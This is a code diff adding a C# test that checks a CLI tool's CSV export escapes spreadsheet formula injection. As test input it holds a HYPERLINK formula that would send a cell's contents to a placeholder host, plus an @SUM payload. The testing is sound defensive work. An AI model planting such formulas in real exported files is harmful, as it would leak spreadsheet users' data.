@@ -48,6 +48,23 @@ public abstract class CliExportStatsTests : IAsyncLifetime
     }
 
     [Fact]
+    public async Task A_text_a_spreadsheet_would_run_as_a_formula_is_exported_to_csv_as_text()
+    {
+        const string Formula = "=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"refund\") the checkout is broken";
+        var csv = Path.Combine(_directory, "formula.csv");
+        File.WriteAllLines(csv, ["id,text,received", $"f,\"{Formula.Replace("\"", "\"\"", StringComparison.Ordinal)}\",2026-11-22T09:00:00Z", "g,@SUM(1+1) app is slow,2026-11-22T09:01:00Z"]);
+        (await RunCliAsync("import", csv, "--id-column", "id", "--time-column", "received")).ExitCode.ShouldBe(0);
+
+        var (exitCode, output) = await RunCliAsync("export", "--since", "2026-11-22");
+
+        exitCode.ShouldBe(0, output);
+        var lines = output.Split('\n', StringSplitOptions.RemoveEmptyEntries);
+        lines[1].ShouldContain($",\"'{Formula.Replace("\"", "\"\"", StringComparison.Ordinal)}\",");
+        lines[2].ShouldContain(",'@SUM(1+1) app is slow,");
+        lines.ShouldAllBe(l => !l.Contains(",=", StringComparison.Ordinal) && !l.Contains(",@", StringComparison.Ordinal));
+    }
+
+    [Fact]
     public async Task Export_since_a_date_writes_json_lines_of_the_later_messages_only()
     {
         var (exitCode, output) = await RunCliAsync("export", "--format", "jsonl", "--since", "2026-11-21");
